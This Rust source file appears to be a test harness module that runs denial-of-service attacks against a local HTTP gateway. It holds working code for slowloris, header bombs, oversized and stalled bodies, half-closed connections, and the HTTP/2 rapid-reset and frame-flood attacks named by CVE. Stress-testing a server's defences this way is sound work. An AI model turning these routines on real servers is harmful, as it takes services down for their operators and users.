//! What clients do that mean no good, or know no better. Each goes on until it is stopped, with bounded means of its own.

use crate::harness::frames;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// How many addresses of this machine the connections come from, so that ports do not run out.
const SOURCES: usize = 8;

/// An attack by `workers` tasks. Dropping it ends them and closes their connections.
pub struct Attack {
    _tasks: JoinSet<()>,
}

/// What one worker does, again and again.
pub type Deed = fn(usize, Target) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<()>> + Send>>;

/// Where it is done.
#[derive(Clone, Debug)]
pub struct Target {
    pub address: SocketAddr,
    pub topic: String,
}

impl Attack {
    /// Has each worker do its deed, again when it is over.
    pub fn begin(workers: usize, target: &Target, deed: Deed) -> Self {
        let mut tasks = JoinSet::new();
        for worker in 0..workers {
            let target = target.clone();
            tasks.spawn(async move {
                loop {
                    // A connection that breaks is what it is out for.
                    if deed(worker, target.clone()).await.is_err() {
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                }
            });
        }
        Self { _tasks: tasks }
    }
}

/// Connects from one of several addresses of this machine.
pub async fn connect(worker: usize, address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((IpAddr::from([127, 0, 1, (worker % SOURCES) as u8 + 1]), 0).into())?;
    socket.connect(address).await
}

/// Reads until the other side closes.
async fn to_the_end(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut space = [0; 4096];
    while stream.read(&mut space).await? > 0 {}
    Ok(())
}

/// A head that comes byte by byte and never ends (slow loris).
pub async fn trickle(worker: usize, target: Target) -> std::io::Result<()> {
    let mut stream = connect(worker, target.address).await?;
    stream.write_all(b"GET /v1/topics HTTP/1.1\r\nHost: localhost\r\nX: ").await?;
    let mut tick = tokio::time::interval(Duration::from_millis(250));
    loop {
        tick.tick().await;
        stream.write_all(b"x").await?;
    }
}

/// A megabyte of headers, on HTTP/1.1 or HTTP/2.
pub async fn bomb(worker: usize, target: Target) -> std::io::Result<()> {
    let mut stream = connect(worker, target.address).await?;
    if worker.is_multiple_of(2) {
        stream.write_all(b"GET /v1/topics HTTP/1.1\r\nHost: localhost\r\n").await?;
        for n in 0..10_000 {
            stream.write_all(format!("X-{n}: {}\r\n", "x".repeat(90)).as_bytes()).await?;
        }
    } else {
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
        let value = "x".repeat(10_000);
        let fields: [(&str, &str); 5] = [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", "localhost"),
            (":path", "/livez"),
            ("x", &value),
        ];
        for n in 0..100 {
            stream.write_all(&frames::head(2 * n + 1, &fields, true)).await?;
        }
    }
    to_the_end(&mut stream).await
}

/// Ten megabytes for a record that may have far less: with their length said, or in pieces.
pub async fn oversize(worker: usize, target: Target) -> std::io::Result<()> {
    const PIECE: usize = 100_000;
    let mut stream = connect(worker, target.address).await?;
    let announced = worker.is_multiple_of(2);
    let how = if announced {
        format!("Content-Length: {}", 100 * PIECE)
    } else {
        "Transfer-Encoding: chunked".into()
    };
    let head =
        format!("POST /v1/topics/{}/records HTTP/1.1\r\nHost: localhost\r\n{how}\r\n\r\n", target.topic);
    stream.write_all(head.as_bytes()).await?;
    let piece = vec![b'x'; PIECE];
    for _ in 0..100 {
        if !announced {
            stream.write_all(format!("{PIECE:x}\r\n").as_bytes()).await?;
        }
        stream.write_all(&piece).await?;
        if !announced {
            stream.write_all(b"\r\n").await?;
        }
    }
    to_the_end(&mut stream).await
}

/// A body that begins and does not go on: it takes room for as long as it is waited for.
pub async fn stall(worker: usize, target: Target) -> std::io::Result<()> {
    let mut stream = connect(worker, target.address).await?;
    let head = format!(
        "POST /v1/topics/{}/records HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n",
        target.topic
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&[b'x'; 59_000]).await?;
    to_the_end(&mut stream).await
}

/// A question, half of one, or none, and then a side that is closed while the other is left open and unread.
pub async fn half_close(worker: usize, target: Target) -> std::io::Result<()> {
    let mut stream = connect(worker, target.address).await?;
    let sent = [
        "GET /v1/topics HTTP/1.1\r\nHost: localhost\r\n\r\n".to_owned(),
        "GET /v1/topics HTTP/1.1\r\nHost: loc".to_owned(),
        format!("GET /v1/topics/{}/stream HTTP/1.1\r\nHost: localhost\r\n\r\n", target.topic),
        String::new(),
    ];
    stream.write_all(sent[worker % sent.len()].as_bytes()).await?;
    stream.shutdown().await?;
    tokio::time::sleep(Duration::from_millis(500)).await;
    to_the_end(&mut stream).await
}

/// Requests that are taken back at once (CVE-2023-44487), as many as the gateway takes.
pub async fn take_back(worker: usize, target: Target) -> std::io::Result<()> {
    let mut stream = connect(worker, target.address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    let path = format!("/v1/topics/{}/records?from=latest&wait=50s", target.topic);
    let fields =
        [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", path.as_str())];
    let mut bytes = Vec::new();
    for n in 0..1_000_000_u32 {
        bytes.extend(frames::head(2 * n + 1, &fields, true));
        bytes.extend(frames::reset(2 * n + 1));
        if bytes.len() > 16_000 {
            stream.write_all(&bytes).await?;
            bytes.clear();
        }
    }
    Ok(())
}

/// Frames that ask for an answer and carry nothing (CVE-2019-9512, -9515, -9518), whose answers are never read.
pub async fn flood(worker: usize, target: Target) -> std::io::Result<()> {
    // A ping, settings, and a piece of a body without bytes.
    const FRAMES: [&[u8]; 3] =
        [b"\0\0\x08\x06\0\0\0\0\0pingpong", b"\0\0\0\x04\0\0\0\0\0", b"\0\0\0\0\0\0\0\0\x01"];
    let mut stream = connect(worker, target.address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    let path = format!("/v1/topics/{}/records", target.topic);
    let fields =
        [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"), (":path", path.as_str())];
    stream.write_all(&frames::head(1, &fields, false)).await?;
    let bytes = FRAMES[worker % FRAMES.len()].repeat(500);
    for _ in 0..100_000 {
        stream.write_all(&bytes).await?;
    }
    Ok(())
}
